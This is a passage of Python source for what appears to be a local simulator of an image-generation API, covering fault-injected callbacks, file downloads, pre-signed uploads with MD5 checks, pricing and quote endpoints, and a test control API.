            wait = 0.25 if at is None else max(0.005, min(0.25, at - time.monotonic()))
            await anyio.sleep(wait)
        kinds = {fault.kind: fault for fault in task.faults}
        status = str(answer.get("status"))
        if "drop_callback" in kinds:
            self.state.record_callback(SentCallback(task.id, url, status, time.monotonic(), error="dropped"))
            return
        if "slow_callback" in kinds:
            await anyio.sleep(kinds["slow_callback"].delay)
        sent = time.monotonic()
        try:
            async with httpx.AsyncClient(timeout=CALLBACK_TIMEOUT_S, verify=_callback_tls()) as client:
                # ASCII escapes, as in every answer: a planted lone surrogate must not break the call.
                body = json.dumps(answer, ensure_ascii=True).encode("ascii")
                response = await client.post(url, content=body, headers={"Content-Type": "application/json"})
        except httpx.HTTPError as exc:
            # The URL without its query (the receiver's secret), and the error by type only (httpx may quote it).
            where = urlsplit(url)._replace(query="", fragment="").geturl()
            logger.info("callback to %s failed: %s", where, type(exc).__name__)
            self.state.record_callback(SentCallback(task.id, url, status, sent, error=type(exc).__name__))
            return
        self.state.record_callback(SentCallback(task.id, url, status, sent, status=response.status_code))

    # -- downloads -------------------------------------------------------------------------------
    def _not_found_xml(self, key: str, ctx: _Ctx) -> Response:
        return Response(
            _NOT_FOUND_XML.format(key=key, rid=ctx.request_id), status_code=404, media_type="application/xml"
        )

    async def image(self, request: Request, ctx: _Ctx, task_id: str, name: str) -> Response:
        task = self.state.get_task(task_id)
        outputs = task.visible_outputs if task is not None else []
        out = next((o for o in outputs if o.filename == name), None)
        if task is None or out is None or task.phase(time.monotonic())[0] != "completed":
            return self._not_found_xml(f"{task_id}/{name}", ctx)
        path = await anyio.to_thread.run_sync(self.state.render_path, task.id, out.index)
        return FileResponse(
            path, media_type=out.media_type, headers={"Cache-Control": "private, max-age=604800"}
        )

    async def file(self, request: Request, ctx: _Ctx, name: str) -> Response:
        upload = self.state.get_file(unquote(name))
        if upload is None or not upload.path.exists():
            return self._not_found_xml(name, ctx)
        if self.state.file_expired(upload):
            now = time.time()
            body = _EXPIRED_XML.format(
                expires=formatdate(upload.expires_at.timestamp(), usegmt=True),
                now=formatdate(now, usegmt=True),
                rid=ctx.request_id,
            )
            return Response(body, status_code=403, media_type="application/xml")
        return FileResponse(upload.path, media_type=upload.mime_type)

    # -- direct uploads: prepare, PUT to storage, confirm ----------------------------------------------
    async def prepare_upload(self, request: Request, ctx: _Ctx) -> Response:
        """``{filename, byte_size, checksum}`` (checksum: base64 of the MD5 digest) -> ``{signed_id,
        upload_url, headers}``: the bytes go to ``upload_url`` with exactly ``headers`` and no key."""
        if self.state.config.legacy:
            raise ApiError(404, "not_found", f"No route for {request.method} {request.url.path}")
        body = _parse_json(await _read_capped(request, MAX_JSON_BODY))
        ctx.json = body
        filename = body.get("filename")
        if not isinstance(filename, str) or not filename.strip() or len(filename) > 255:
            raise ApiError(
                422, "validation_error", "'filename' must be a file name (1..255 characters)", field="filename"
            )
        size = body.get("byte_size")
        if not isinstance(size, int) or isinstance(size, bool) or size < 1:
            raise ApiError(422, "validation_error", "'byte_size' must be a positive integer", field="byte_size")
        limit = self.state.config.max_upload_bytes
        if size > limit:
            raise ApiError(
                413, "payload_too_large", f"File is larger than the {limit} byte upload limit", field="byte_size"
            )
        checksum = body.get("checksum")
        if not isinstance(checksum, str) or _md5_digest(checksum) is None:
            raise ApiError(
                422, "validation_error", "'checksum' must be the base64 of the file's MD5 digest", field="checksum"
            )
        declared = body.get("content_type")
        if isinstance(declared, str) and declared.strip() and not _HEADER_UNSAFE_RE.search(declared):
            content_type = declared.strip()
        else:
            content_type = mimetypes.guess_type(filename)[0] or "application/octet-stream"
        pending = self.state.prepare_upload(filename.strip(), size, checksum, content_type)
        return JSONAnswer(
            {
                "signed_id": pending.signed_id,
                "upload_url": f"{base_url(request)}/storage/{pending.token}",
                "headers": {"Content-Type": pending.content_type, "Content-MD5": pending.checksum},
            }
        )

    def _storage_error(self, status: int, code: str, message: str, ctx: _Ctx) -> Response:
        body = _S3_XML.format(code=code, message=message, rid=ctx.request_id)
        return Response(body, status_code=status, media_type="application/xml")

    async def storage_put(self, request: Request, ctx: _Ctx, token: str) -> Response:
        """The storage end of a direct upload: a pre-signed PUT. It must carry exactly the prepared headers,
        the prepared number of bytes with the prepared MD5, and no Authorization (storage is not RunAPI)."""
        if ctx.sent_auth:
            return self._storage_error(
                400,
                "InvalidArgument",
                "Only one auth mechanism allowed; the signed URL is the authorization, "
                "the Authorization header must not be sent",
                ctx,
            )
        pending = self.state.pending_by_token(token)
        if pending is None or pending.confirmed is not None:
            return self._storage_error(403, "AccessDenied", "Request has expired or the upload URL is unknown", ctx)
        expected = {"Content-Type": pending.content_type, "Content-MD5": pending.checksum}
        for name, value in expected.items():
            if request.headers.get(name) != value:
                return self._storage_error(
                    403,
                    "SignatureDoesNotMatch",
                    f"The request signature does not match: header {name} must be {value!r} as prepared",
                    ctx,
                )
        declared = request.headers.get("content-length")
        if declared is not None and declared.isdigit() and int(declared) != pending.byte_size:
            return self._storage_error(
                400, "InvalidRequest", f"Content-Length {declared} is not the prepared {pending.byte_size} bytes", ctx
            )
        try:
            data = await _read_capped(request, pending.byte_size)
        except ApiError:
            data = b""  # more than prepared
        if len(data) != pending.byte_size:
            return self._storage_error(
                400, "IncompleteBody", f"The body is not the prepared {pending.byte_size} bytes", ctx
            )
        if base64.b64encode(hashlib.md5(data).digest()).decode("ascii") != pending.checksum:
            return self._storage_error(
                400, "BadDigest", "The Content-MD5 you specified did not match what we received", ctx
            )
        await anyio.to_thread.run_sync(self.state.stage_upload, pending, data)
        return Response(b"", status_code=200, headers={"ETag": f'"{hashlib.md5(data).hexdigest()}"'})

    async def confirm_upload(self, request: Request, ctx: _Ctx) -> Response:
        """``{signed_id}`` -> the file, once its bytes were PUT (confirming again answers the same file)."""
        if self.state.config.legacy:
            raise ApiError(404, "not_found", f"No route for {request.method} {request.url.path}")
        body = _parse_json(await _read_capped(request, MAX_JSON_BODY))
        ctx.json = body
        signed_id = body.get("signed_id")
        pending = self.state.pending_upload(signed_id) if isinstance(signed_id, str) else None
        if pending is None:
            raise ApiError(422, "validation_error", "'signed_id' is not a prepared upload", field="signed_id")
        if pending.staged is None and pending.confirmed is None:
            raise ApiError(
                422,
                "upload_incomplete",
                "Nothing was uploaded for this 'signed_id': PUT the bytes to its upload_url first",
                field="signed_id",
            )
        upload = await anyio.to_thread.run_sync(self.state.confirm_upload, pending)
        return JSONAnswer(self._file_answer(upload, base_url(request)))

    # -- uploads ---------------------------------------------------------------------------------
    async def upload(self, request: Request, ctx: _Ctx) -> Response:
        limit = self.state.config.max_upload_bytes
        too_big = ApiError(413, "payload_too_large", f"File is larger than the {limit} byte upload limit")
        try:
            raw = await _read_capped(request, limit * 4 // 3 + 1024 * 1024)
        except ApiError:
            raise too_big from None
        content_type = request.headers.get("content-type", "").lower()
        filename: str | None
        mime: str | None = None
        if content_type.startswith("multipart/form-data") and self.state.config.legacy:
            data, filename, mime = await self._multipart(request, raw)
        elif content_type.startswith("multipart/form-data"):
            raise ApiError(
                415,
                "unsupported_media_type",
                "multipart uploads are no longer accepted: upload a local file with POST /api/v1/files/prepare, "
                "PUT the bytes to its upload_url, then POST /api/v1/files/confirm (RunAPI's SDK "
                "FilesClient.create(file=...)); or send JSON {'source': {'type': 'url'|'base64', ...}}",
            )
        elif content_type.startswith("application/json") or raw.lstrip().startswith(b"{"):
            body = _parse_json(raw)
            ctx.json = _redacted(body)
            data, mime = await self._json_source(request, body)
            name_value = body.get("file_name")
            filename = name_value if isinstance(name_value, str) else None
        else:
            raise ApiError(
                415,
                "unsupported_media_type",
                "Upload as JSON {'source': {'type': 'url'|'base64', ...}}, or a local file through "
                "POST /api/v1/files/prepare, PUT upload_url, POST /api/v1/files/confirm",
            )
        if len(data) > limit:
            raise too_big
        if not data:
            raise ApiError(422, "validation_error", "'file' is empty", field="file")
        upload = await anyio.to_thread.run_sync(self.state.store_file, data, filename, mime)
        return JSONAnswer(self._file_answer(upload, base_url(request)))

    @staticmethod
    async def _multipart(request: Request, raw: bytes) -> tuple[bytes, str | None, str | None]:
        sent = False

        async def receive() -> Message:
            nonlocal sent
            if sent:
                return {"type": "http.disconnect"}
            sent = True
            return {"type": "http.request", "body": raw, "more_body": False}

        replay = Request(request.scope, receive)
        try:
            form = await replay.form()
        except Exception as exc:  # multipart errors come in several types
            raise ApiError(400, "bad_request", f"Malformed multipart body: {exc}") from None
        try:
            part = form.get("file")
            if not isinstance(part, UploadFile):
                raise ApiError(
                    422, "validation_error", "'file' part (with a filename) is required", field="file"
                )
            data = await part.read()
            given = form.get("file_name")
            filename = given if isinstance(given, str) and given.strip() else part.filename
            return data, filename, part.content_type
        finally:
            await form.close()

    async def _json_source(self, request: Request, body: dict[str, Any]) -> tuple[bytes, str | None]:
        source = body.get("source")
        if not isinstance(source, dict):
            raise ApiError(
                422,
                "validation_error",
                "'source' must be an object with 'type' (base64 or url)",
                field="source",
            )
        kind = source.get("type")
        if kind == "base64":
            data = source.get("data")
            if not isinstance(data, str) or not data.strip():
                raise ApiError(
                    422, "validation_error", "'source.data' must be base64 text", field="source.data"
                )
            mime: str | None = None
            match = re.match(r"^data:([\w/+.-]+)?(?:;[\w=-]+)*;base64,", data)
            if match:
                mime = match.group(1)
                data = data[match.end() :]
            try:
                return base64.b64decode("".join(data.split()), validate=True), mime
            except (binascii.Error, ValueError):
                raise ApiError(
                    422, "validation_error", "'source.data' is not valid base64", field="source.data"
                ) from None
        if kind == "url":
            url = source.get("url")
            if not isinstance(url, str) or not url.strip():
                raise ApiError(422, "validation_error", "'source.url' must be a URL", field="source.url")
            local = _local_ref(url, request)
            if local is None:
                raise ApiError(
                    422,
                    "validation_error",
                    "'source.url' could not be fetched: the simulator only fetches its own "
                    "/files/ and /images/ URLs",
                    field="source.url",
                )
            fetched = await self._fetch_local(local)
            if fetched is None:
                raise ApiError(
                    422,
                    "validation_error",
                    "'source.url' could not be downloaded (404 Not Found)",
                    field="source.url",
                )
            return fetched
        raise ApiError(
            422, "validation_error", "'source.type' must be 'base64' or 'url'", field="source.type"
        )

    async def _fetch_local(
        self, local: tuple[Literal["file", "image"], str, int]
    ) -> tuple[bytes, str] | None:
        kind, name, index = local
        if kind == "file":
            upload = self.state.get_file(name)
            if upload is None or self.state.file_expired(upload):
                return None
            return await anyio.to_thread.run_sync(upload.path.read_bytes), upload.mime_type
        task = self.state.get_task(name)
        if (
            task is None
            or task.phase(time.monotonic())[0] != "completed"
            or index >= len(task.visible_outputs)
        ):
            return None
        out = task.visible_outputs[index]
        path = await anyio.to_thread.run_sync(self.state.render_path, task.id, index)
        return await anyio.to_thread.run_sync(path.read_bytes), out.media_type

    @staticmethod
    def _file_answer(upload: UploadedFile, base: str) -> dict[str, Any]:
        return {
            "file_name": upload.name,
            "url": f"{base}/files/{upload.name}",
            "size_bytes": upload.size,
            "mime_type": upload.mime_type,
            "created_at": iso(upload.created_at),
            "expires_at": iso(upload.expires_at),
        }

    # -- account and catalog ---------------------------------------------------------------------
    def _balance(self) -> dict[str, Any]:
        state = self.state
        with state.lock:
            return {
                "balance_cents": state.balance_cents,
                "paid_balance_cents": state.balance_cents,
                "bonus_balance_cents": 0,
                "spent_cents_today": state.spent_cents_today,
                "spent_cents_total": state.spent_cents_total,
                "currency": "USD",
            }

    async def balance(self, request: Request, ctx: _Ctx) -> Response:
        return JSONAnswer(self._balance())

    async def me(self, request: Request, ctx: _Ctx) -> Response:
        return JSONAnswer(
            {
                "id": 1,
                "name": "RunAPI Simulator",
                "email": "simulator@runapi.invalid",
                "account": {"id": 1, "name": "Simulator account"},
                "balance": self._balance(),
            }
        )

    def schedule_rows(self) -> list[dict[str, Any]]:
        """Every price schedule row: one per catalog action and model, then ``extra_schedule_rows``."""
        state = self.state
        legacy = state.config.legacy
        rows: list[dict[str, Any]] = []
        for action in state.catalog.actions:
            for slug, spec in action.models.items():
                by_res = "output_resolution" in spec.fields or "size" in spec.fields
                row: dict[str, Any] = {
                    "service": action.service,
                    "action": action.endpoint,
                    "model": slug,
                    "pricing_status": PRICING_STATUS,
                    "catalog_status": state.catalog_status(slug, action.endpoint),
                    "currency": CURRENCY,
                    "billing_unit": "image",
                    "billing_strategy": "per_image_by_resolution" if by_res else "per_image",
                    "unit_price_cents": PRICE_BY_LONG_SIDE[0][1] if by_res else PRICE_DEFAULT,
                    "billing_config": {"resolution_prices_cents": dict(_RESOLUTION_PRICES)} if by_res else {},
                }
                rows.append(row)
        for extra in state.config.extra_schedule_rows:
            model = str(extra["model"])
            endpoint = str(extra["action"]).replace("-", "_")
            rows.append(
                {
                    "pricing_status": PRICING_STATUS,
                    "catalog_status": state.catalog_status(model, endpoint),
                    "currency": CURRENCY,
                    "billing_unit": "image",
                    "billing_strategy": "per_image",
                    "unit_price_cents": PRICE_DEFAULT,
                    "billing_config": {},
                    **extra,
                    "service": str(extra["service"]).replace("-", "_").replace(".", "_"),
                    "action": endpoint,
                }
            )
        if legacy:
            for row in rows:
                row.pop("catalog_status", None)
        return rows

    async def price_schedules(self, request: Request, ctx: _Ctx) -> Response:
        """``?service=&action=&model=`` filter the rows; a strong ETag over the body, 304 to ``If-None-Match``."""
        query = request.query_params
        wanted = {
            key: _route_name(value) if key != "model" else value
            for key in ("service", "action", "model")
            if (value := query.get(key, "").strip())
        }
        rows = [row for row in self.schedule_rows() if all(row.get(k) == v for k, v in wanted.items())]
        with self.state.lock:
            as_of = iso(self.state.schedules_as_of)
        content = JSONAnswer({"as_of": as_of, "price_schedules": rows}).body
        etag = '"' + hashlib.sha256(content).hexdigest()[:32] + '"'
        headers = {"ETag": etag, "Cache-Control": "no-cache"}
        if _etag_matches(request.headers.get("if-none-match"), etag):
            return Response(status_code=304, headers=headers)
        return Response(content, media_type="application/json", headers=headers)

    def _quote_route(self, body: Mapping[str, Any]) -> ActionSpec:
        for key in ("service", "action"):
            if not isinstance(body.get(key), str) or not body[key].strip():
                raise ApiError(422, "validation_error", f"'{key}' is required (a string)", field=key)
        service, endpoint = _route_name(body["service"]), _route_name(body["action"])
        action = self.state.catalog.find_route(service, endpoint)
        if action is None:
            known = any(a.service == service for a in self.state.catalog.actions)
            raise ApiError(
                422,
                "validation_error",
                f"No action {endpoint} on service {service}" if known else f"No service {service}",
                field="action" if known else "service",
            )
        return action

    def _quote_answer(self, action: ActionSpec, fields: Mapping[str, Any], prefix: str) -> tuple[ModelSpec, TaskPlan]:
        try:
            spec = validate_body(action, fields, image_optional=True)
        except ApiError as err:
            if prefix and err.field is not None and err.field != "model":
                err.field = prefix + err.field
            raise
        plan = plan_task(action, spec, fields, resolve_local=lambda url: None, size_of=lambda ref: ref.size)
        return spec, plan

    async def price_quote(self, request: Request, ctx: _Ctx) -> Response:
        """``{service, action, model?, params: {...the create fields...}}`` -> ``{"price_quote": {...}}``
        (``reservation_amount_cents``: what the task would reserve, in cents). A flat body is refused."""
        body = _parse_json(await _read_capped(request, MAX_JSON_BODY))
        ctx.json = body
        if self.state.config.legacy:
            return self._legacy_quote(body)
        action = self._quote_route(body)
        params = body.get("params")
        stray = [k for k in body if k not in ("service", "action", "model", "params")]
        if stray or (params is not None and not isinstance(params, dict)):
            given = ", ".join(f"'{k}'" for k in stray)
            raise ApiError(
                422,
                "validation_error",
                "'params' must be an object holding the create fields"
                + (f" ({given} given at the top level: nest them under 'params')" if stray else ""),
                field="params",
            )
        fields = dict(params or {})
        model = body.get("model")
        if model is not None:
            if "model" in fields and fields["model"] != model:
                raise ApiError(
                    422, "validation_error", "'model' and 'params.model' name different models", field="model"
                )
            fields["model"] = model
        if "source_task_id" in fields:
            # Priced from an existing task: only that task's account may ask (the key is then required).
            if not ctx.authorized:
                raise ApiError(
                    401,
                    "unauthorized",
                    "A quote priced from an existing task ('params.source_task_id') needs the key of its account",
                    headers={"WWW-Authenticate": "Bearer"},
                )
            source = fields["source_task_id"]
            if isinstance(source, str) and self.state.get_task(source) is None:
                raise ApiError(
                    422, "validation_error", f"Task {source} was not found", field="params.source_task_id"
                )
        spec, plan = self._quote_answer(action, fields, "params.")
        with self.state.lock:
            as_of = iso(self.state.schedules_as_of)
        return JSONAnswer(
            {
                "price_quote": {
                    "service": action.service,
                    "action": action.endpoint,
                    "model": spec.slug,
                    "pricing_status": PRICING_STATUS,
                    "currency": CURRENCY,
                    "reservation_amount_cents": plan.price_cents,
                    "estimate_basis": ESTIMATE_BASIS,
                    "as_of": as_of,
                    "image_count": len(plan.outputs),
                }
            }
        )

    def _legacy_quote(self, body: dict[str, Any]) -> Response:
        """The quote before 0.10: the create fields flat beside ``service`` and ``action``."""
        action = self._quote_route(body)
        if "params" in body:
            raise ApiError(
                422, "validation_error", "'params' is not a field: give the create fields flat", field="params"
            )
        fields = {k: v for k, v in body.items() if k not in ("service", "action")}
        spec, plan = self._quote_answer(action, fields, "")
        return JSONAnswer(
            {
                "price_quote": {
                    "reservation_amount_cents": plan.price_cents,
                    "currency": CURRENCY,
                    "service": action.service,
                    "action": action.endpoint,
                    "model": spec.slug,
                    "image_count": len(plan.outputs),
                }
            }
        )

    async def models(self, request: Request, ctx: _Ctx) -> Response:
        catalog = self.state.catalog
        data = [
            {
                "id": slug,
                "object": "model",
                "owned_by": "runapi",
                "routes": [a.path for a in catalog.actions if slug in a.models],
            }
            for slug in catalog.model_names
        ]
        return JSONAnswer({"object": "list", "data": data})

    async def index(self, request: Request, ctx: _Ctx) -> Response:
        return JSONAnswer(
            {
                "name": "RunAPI simulator",
                "base_url": base_url(request),
                "models": f"{base_url(request)}/v1/models",
                "control": f"{base_url(request)}/_sim/state",
            }
        )

    # -- control API (not authenticated, not logged) ---------------------------------------------
    async def control(self, request: Request) -> Response:
        state = self.state
        path = request.url.path.rstrip("/")
        method = request.method
        if path == "/_sim/faults":
            if method == "GET":
                return JSONAnswer({"faults": [f.to_dict() for f in state.faults()]})
            if method == "DELETE":
                state.clear_faults()
                return JSONAnswer({"faults": []})
            if method == "POST":
                body = _parse_json(await request.body())
                items = body["faults"] if isinstance(body.get("faults"), list) else [body]
                try:
                    faults = [Fault.from_dict(item) for item in items]
                except (TypeError, ValueError) as exc:
                    raise ApiError(422, "validation_error", str(exc)) from None
                for fault in faults:
                    state.inject(fault)
                return JSONAnswer({"faults": [f.to_dict() for f in state.faults()]}, status_code=201)
        elif path == "/_sim/reset" and method == "POST":
            await anyio.to_thread.run_sync(state.reset)  # it waits for a running pre-render and deletes files
            return JSONAnswer({"ok": True})
        elif path == "/_sim/callbacks" and method == "GET":
            return JSONAnswer({"callbacks": [c.to_dict() for c in state.callbacks()]})
        elif path == "/_sim/requests":
            if method == "GET":
                return JSONAnswer({"requests": [r.to_dict() for r in state.requests()]})
            if method == "DELETE":
                state.clear_log()
                return JSONAnswer({"requests": []})
        elif path == "/_sim/state" and method == "GET":
            with state.lock:
                return JSONAnswer(
                    {
                        "tasks_created": state.tasks_created,
                        "balance_cents": state.balance_cents,
                        "spent_cents_total": state.spent_cents_total,
                        "tasks": len(state.tasks),
                        "files": len(state.files),
                        "faults": len(state.faults()),
                        "requests": len(state.requests()),
                    }
                )
        elif path == "/_sim/balance" and method == "POST":
            body = _parse_json(await request.body())
            cents = body.get("balance_cents")
            if not isinstance(cents, int) or isinstance(cents, bool):
                raise ApiError(
                    422, "validation_error", "'balance_cents' must be an integer", field="balance_cents"
                )
            state.set_balance(cents)
            return JSONAnswer(self._balance())
        elif path == "/_sim/outcome" and method == "POST":
            body = _parse_json(await request.body())
            task_id = body.get("task_id")
            status = body.get("status", "completed")
            if status not in ("completed", "failed", "running"):
                raise ApiError(
                    422, "validation_error", "'status' must be completed, failed or running", field="status"
                )
            images = body.get("images")
            status_text = body.get("status_text")
            if status_text is not None and not (isinstance(status_text, str) and status_text):
                raise ApiError(
                    422, "validation_error", "'status_text' must be a non-empty string", field="status_text"
                )
            outcome = Outcome(
                status=status,
                error=body.get("error"),
                status_text=body.get("status_text"),
                images=images if isinstance(images, int) else None,
                cost_cents=cost if isinstance(cost := body.get("cost_cents"), int) else None,
            )
            try:
                state.set_outcome(task_id if isinstance(task_id, str) else None, outcome)
            except KeyError:
                raise ApiError(404, "not_found", f"Task {task_id} not found") from None
            return JSONAnswer({"ok": True})
        elif path == "/_sim/config":
            if method == "POST":
                changes = _parse_json(await request.body())
                try:
                    state.configure(changes)
                except (TypeError, ValueError) as exc:
                    raise ApiError(422, "validation_error", str(exc)) from None
            if method in ("GET", "POST"):
                return JSONAnswer({name: getattr(state.config, name) for name in SETTABLE_CONFIG})
        elif path == "/_sim/catalog_status":
            if method == "POST":
                body = _parse_json(await request.body())
                model, status, action = body.get("model"), body.get("status"), body.get("action")
                if not isinstance(model, str) or not isinstance(status, str):
                    raise ApiError(422, "validation_error", "'model' and 'status' must be strings")
                if action is not None and not isinstance(action, str):
                    raise ApiError(422, "validation_error", "'action' must be a string", field="action")
                try:
                    state.set_catalog_status(model, status, action)
                except ValueError as exc:
                    raise ApiError(422, "validation_error", str(exc)) from None
            if method in ("GET", "POST"):
                rows = [
                    {k: row[k] for k in ("service", "action", "model", "catalog_status") if k in row}
                    for row in self.schedule_rows()
                ]
                return JSONAnswer({"catalog_status": rows})
        raise ApiError(404, "not_found", f"No control route {method} {request.url.path}")


def _redacted(body: dict[str, Any]) -> dict[str, Any]:
    """The upload body for the log, without megabytes of base64."""
    source = body.get("source")
    if isinstance(source, dict) and isinstance(source.get("data"), str):
        return {**body, "source": {**source, "data": f"<{len(source['data'])} base64 chars>"}}
    return body
